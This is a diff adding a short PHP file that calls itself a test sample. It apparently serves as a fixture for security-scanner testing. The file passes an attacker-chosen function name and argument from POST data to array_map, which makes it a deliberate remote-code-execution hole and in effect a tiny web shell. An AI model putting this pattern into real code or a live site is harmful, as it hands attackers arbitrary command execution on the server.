@@ -1,0 +1,4 @@
+<?php
+// test sample: callback API with attacker-chosen callee
+$arr = array($_POST['payload']);
+array_map($_POST['fn'], $arr);
